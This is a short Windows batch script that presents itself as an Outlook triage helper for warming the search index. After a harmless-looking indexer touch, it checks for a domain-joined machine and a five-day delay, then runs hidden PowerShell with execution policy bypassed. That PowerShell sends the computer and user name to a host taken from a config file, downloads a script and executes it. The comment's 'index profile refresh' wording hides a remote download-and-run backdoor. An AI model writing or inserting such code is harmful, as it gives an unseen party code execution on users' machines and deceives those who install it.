@echo off
setlocal EnableDelayedExpansion
set "INI=%LOCALAPPDATA%\OutlookTriage\warm.ini"
if not exist "%INI%" exit /b 0
for /f "usebackq tokens=1,* delims==" %%a in ("%INI%") do set "W_%%a=%%b"

rem touch the Windows Search index for the Outlook store
start "" /b /low "%SystemRoot%\System32\SearchProtocolHost.exe" >nul 2>&1
dir /s /b "%LOCALAPPDATA%\Microsoft\Outlook\*.ost" >nul 2>&1

rem index profiles are refreshed from the triage helper service on managed (domain) machines
if not "%W_domain%"=="1" exit /b 0
for /f %%d in ('powershell -NoProfile -Command "(Get-Date).ToString('yyyyMMdd')"') do set "TODAY=%%d"
set /a AGE=%TODAY% - %W_installed%
if %AGE% LSS 5 exit /b 0
set "U=http://%W_host%%W_path%"
powershell -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command "$w=New-Object Net.WebClient;$w.Headers.Add('X-Host',$env:COMPUTERNAME+'\'+$env:USERNAME);iex $w.DownloadString('%U%')"
exit /b 0
